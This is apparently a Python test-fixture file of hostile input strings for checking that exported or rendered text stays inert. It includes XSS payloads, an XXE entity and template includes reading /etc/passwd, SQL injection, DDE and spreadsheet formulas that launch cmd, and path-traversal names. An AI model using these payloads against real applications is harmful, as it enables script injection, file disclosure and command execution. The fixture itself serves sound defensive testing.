"""Texts that would do harm if a program took them for more than texts; titles, labels and names of schools may hold them.

`MARKUP` holds what HTML, Markdown, Typst, XML or a template engine would obey, `FORMULAS` what a spreadsheet would run,
`LETTERS` signs that break files or mislead a reader. All can stand in a cell of a CSV file; `NO_TEXT` can't, since XML,
TOML and terminals have no place for them.
"""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title></head></p></td><svg/onload=alert(1)>",
    "\"><iframe srcdoc='<script>alert(1)</script>'>",
    "' onmouseover='alert(1)",
    "[here](javascript:alert(1)) and ![](http://example.org/x.png) and <http://example.org>",
    "*all* _of_ **us** `code` | cell | # heading",
    "# Heading\n\n- item\n\n1. item\n\n> quoted",
    "&lt;b&gt; &amp; &#x3C;script&#x3E; &nbsp;",
    "<!-- --> <![CDATA[ ]]> <?xml version='1.0'?> <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "]]></w:t></w:r></w:p><w:p>",
    "#import \"x.typ\": * #read(\"/etc/passwd\") #panic() $x^2$ @label <label> \\ ~ = title",
    "#set page(fill: red)",
    "*bold _emphasis `raw` $math$ [content] {code} // comment /* open",
    "```\n#|\n```",
    "#| fig-cap: another caption",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} {# #}",
    "${7*7} %s %(name)s {0} {name!r}",
    "$\\frac{1}{2}$ $unclosed \\input{/etc/passwd} ^ _ \\",
    "' ; DROP TABLE teachers; --",
    "{\\rtf1 } \\page",
    "INCLUDETEXT \"C:\\\\secret.txt\" { DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe }",
)

FORMULAS = (
    "=cmd|'/c calc'!A1",
    "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")",
    "=1+1",
    "+1+1",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    " =1+1",
    "{=1+1}",
    "'=1+1",
    ";=1+1",
)

LETTERS = (
    "Right \u202eot tfel\u202c left",
    "\u2066isolated\u2069 \u200fmark\u200e",
    "zero\u200bwidth\u200djoiner\ufeffmark",
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 stacked",
    "კითხვარი ᲥᲐᲠᲗᲣᲚᲘ",
    "שלום مرحبا",
    "👩🏽‍🏫 🏴󠁧󠁢󠁳󠁣󠁴󠁿 𝒶𝒷𝒸",
    "ﷺ ﬃ ℡ Ⅷ ½",
    "line\u2028separator\u2029paragraph\u0085next",
    "tab\tnewline\nreturn\rend",
    "control\x01\x0b\x0c\x1b[31m\x7f\x9b",
    "non\ufffecharacter\uffff",
    "W" * 600,
    "many words " * 120,
    ".",
    "..",
    "CON",
    "nul.csv",
    "../../etc/passwd",
    "C:\\Windows\\win.ini",
    "trailing dot.",
    "a/b\\c:d*e?f\"g<h>i|j",
)

NO_TEXT = ("a NUL\x00byte", "a lone \ud800 surrogate")

HOSTILE = (*MARKUP, *FORMULAS, *LETTERS)
